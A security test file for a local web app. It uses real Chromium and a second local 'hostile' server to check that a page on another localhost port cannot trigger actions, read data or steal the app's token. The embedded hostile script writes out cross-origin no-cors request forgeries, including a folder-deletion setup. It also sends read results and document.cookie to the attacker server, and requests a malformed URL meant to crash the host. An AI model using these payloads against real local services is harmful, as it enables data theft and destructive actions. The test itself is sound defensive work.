/**
 * Another page on this machine — another port on 127.0.0.1 is the same site to a browser — must
 * not drive the web host, read from it, or obtain its token. Real Chromium, the real renderer, and
 * a hostile page served by a second local server that tries what an attacker would.
 */
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { creditCheckChar } from '../../shared/validation/creditCode';
import { tempDir } from '../support/workspace';
import { launchChromium, serveWorkspace, startHostileServer, tokenOf, type Served } from './support';

let browser: Browser;
const served: Served[] = [];
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  for (const s of served) await s.close();
});

/** The hostile page: state-changing posts the way a form or no-cors fetch can send them, reads, an event stream, a broken URL. */
function hostilePage(target: string, exportDir: string, victimDir: string): string {
  const script = `
    const target = ${JSON.stringify(target)};
    const post = (route, body) => fetch(target + '/api/invoke/' + route, {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify(body),
    }).catch(() => {});
    const read = async (url, init) => { try { return await (await fetch(url, init)).text(); } catch { return ''; } };
    (async () => {
      await post('units.save', ${JSON.stringify(unit('来自其他网页的单位', '91320000600037341'))});
      await post('workspace.export', { folder: ${JSON.stringify(exportDir)} });
      await post('inbox.folders.add', { path: ${JSON.stringify(victimDir)}, afterFiling: 'delete', deleteAfterDays: 0 });
      const stolen = [
        await read(target + '/api/invoke/app.info', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' }),
        await read(target + '/', { credentials: 'include' }),
        await read(target + '/api/events', { credentials: 'include' }),
      ];
      await new Promise((done) => {
        const source = new EventSource(target + '/api/events', { withCredentials: true });
        source.onopen = () => { stolen.push('event stream opened'); source.close(); done(); };
        source.onerror = () => { source.close(); done(); };
      });
      await fetch('/report', { method: 'POST', body: JSON.stringify({ stolen, cookie: document.cookie }) });
      // A path that does not decode: it used to end the host's process.
      await new Promise((done) => { const img = new Image(); img.onload = img.onerror = done; img.src = target + '/%E0%A4%A'; });
      await fetch('/after', { method: 'POST' });
    })();`;
  return `<!doctype html><meta charset="utf-8"><title>另一个本地网页</title><script>${script}</script>`;
}

const unit = (name: string, first17: string) => ({ name, creditCode: first17 + creditCheckChar(first17) });

test('a page on another local port cannot make the host do anything, read from it, or get its token', async () => {
  const app = await serveWorkspace();
  served.push(app);
  const token = tokenOf(app.host);
  const outside = tempDir('zhicheng-hostile-');
  const exportDir = join(outside, 'served-by-the-other-page');
  const victimDir = join(outside, 'someone-elses-folder');
  mkdirSync(exportDir);
  mkdirSync(victimDir);
  writeFileSync(join(victimDir, 'keep.txt'), 'not the host’s to delete');

  // The user has the app open in this browser: whatever it keeps is there for the other page to use.
  const context = await browser.newContext();
  const own = await context.newPage();
  await own.goto(app.host.url);
  await own.getByTestId('nav-people').waitFor();

  const hostile = await startHostileServer(hostilePage(`http://127.0.0.1:${app.host.port}`, exportDir, victimDir));
  try {
    const other = await context.newPage();
    await other.goto(hostile.origin);
    await expect.poll(() => hostile.seen.some((r) => r.url === '/report'), { timeout: 60_000 }).toBe(true);

    // The token reached the other server in no header, cookie, address or report.
    for (const request of hostile.seen) expect(JSON.stringify(request)).not.toContain(token);
    const report = JSON.parse(hostile.seen.find((r) => r.url === '/report')!.body) as { stolen: string[] };
    expect(report.stolen.join('')).not.toContain('"ok"');
    expect(report.stolen).not.toContain('event stream opened');

    // Nothing changed: no unit, no archive in the other page's folder, no watched folder.
    expect(await app.ws.call('units.list', {})).toEqual([]);
    expect(readdirSync(exportDir)).toEqual([]);
    expect(await app.ws.call('inbox.folders.list', {})).toEqual([]);
    expect(readdirSync(victimDir)).toEqual(['keep.txt']);
    // The host lived through the broken URL and still serves its own page.
    await expect.poll(() => hostile.seen.some((r) => r.url === '/after'), { timeout: 60_000 }).toBe(true);
    expect(await own.evaluate(async () => (await fetch('/')).status)).toBe(200);
  } finally {
    await hostile.close();
    await context.close();
  }
});

test('two hosts open in one browser do not log each other out', async () => {
  const [first, second] = [await serveWorkspace(), await serveWorkspace()];
  served.push(first, second);
  await first.ws.call('units.save', unit('甲公司', '91320000600037341'));
  await second.ws.call('units.save', unit('乙公司', '91320000600037342'));
  const context = await browser.newContext();
  try {
    const shows = async (page: import('playwright-core').Page, name: string) => {
      await page.getByTestId('nav-settings').click();
      await expect.poll(() => page.getByTestId('units-table').textContent()).toContain(name);
    };
    const one = await context.newPage();
    await one.goto(first.host.url);
    await shows(one, '甲公司');
    const two = await context.newPage();
    await two.goto(second.host.url);
    await shows(two, '乙公司');
    // The first tab reloads (its address no longer carries the token) and still works.
    await one.reload();
    expect(await one.textContent('body')).not.toContain('未授权');
    await shows(one, '甲公司');
  } finally {
    await context.close();
  }
});
